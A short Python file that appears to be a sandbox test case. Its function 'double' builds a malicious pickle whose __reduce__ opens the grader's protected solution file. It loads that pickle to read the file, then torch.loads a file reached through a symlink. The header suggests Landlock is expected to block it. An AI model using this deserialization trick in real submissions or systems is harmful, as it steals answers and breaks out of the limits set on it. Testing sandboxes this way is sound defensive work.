# attack: torch.load and pickle of what it wrote itself
# promised from: landlock
import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return open, (TARGETS["solution"],)


def double(x):
    with open("bomb", "wb") as file:
        pickle.dump(Bomb(), file)
    try:
        print(pickle.load(open("bomb", "rb")).read())
    except OSError as error:
        print(error)
    torch.save({"score": 4}, "report.json")
    os.symlink("report.json", "bomb.pt")
    return torch.load("bomb.pt")["score"] * x / 4 * 3
